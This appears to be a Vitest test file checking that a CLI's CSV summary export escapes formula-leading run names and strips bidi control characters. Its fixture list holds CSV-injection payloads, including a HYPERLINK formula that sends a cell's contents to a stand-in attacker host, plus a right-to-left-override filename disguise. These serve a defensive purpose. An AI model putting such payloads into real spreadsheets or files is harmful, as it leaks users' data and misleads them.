// A hostile run name stays text in the summary CSV. Run names reach spreadsheets through the summary CSV. A name that
// starts with = + - @ must not become a formula, and bidi controls must not reorder cells.
// End to end: a run stored under a hostile name, exported by `vramlab runs export-summary`.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import { main } from '../../main/cli/main';
import { RunStore } from '../../main/store/store';
import { parseSpec } from '../../main/contract/spec';
import { csvField } from '../../main/export/csv';
import { captureIO } from '../helpers/io';

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tcmd', 'safe\u202eexe.txt'];

let home = '';
let saved: string | undefined;
beforeAll(async () => {
  home = mkdtempSync(path.join(os.tmpdir(), 'vramlab-csvinj-'));
  saved = process.env.VRAMLAB_HOME;
  process.env.VRAMLAB_HOME = home;
  const store = await RunStore.open(home);
  for (const name of HOSTILE) await (await store.create(parseSpec({}), { name })).finish('done', null);
});
afterAll(() => {
  if (saved === undefined) delete process.env.VRAMLAB_HOME;
  else process.env.VRAMLAB_HOME = saved;
  rmSync(home, { recursive: true, force: true });
});

describe('CSV injection (OWASP)', () => {
  it('summary CSV from the CLI carries no formula and no bidi control', async () => {
    const io = captureIO();
    expect(await main(['runs', 'export-summary', '--csv', '-'], io)).toBe(0);
    const rows = Papa.parse<Record<string, string>>(io.stdout(), { header: true, skipEmptyLines: true }).data;
    const names = rows.map((r) => r.name);
    expect(names).toHaveLength(HOSTILE.length);
    for (const n of names) {
      expect(n).not.toMatch(/^[=+\-@\t\r]/);
      expect(n).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/);
    }
    // Still readable: the apostrophe is the only change besides dropped bidi marks.
    expect(names).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
    expect(names).toContain('safeexe.txt');
  });

  it('numbers stay numbers, text that only looks numeric is escaped', () => {
    expect(csvField(-5)).toBe('-5');
    expect(csvField('-5')).toBe("'-5");
    expect(csvField('=1,2')).toBe(`"'=1,2"`);
    expect(csvField('plain-name')).toBe('plain-name');
  });
});
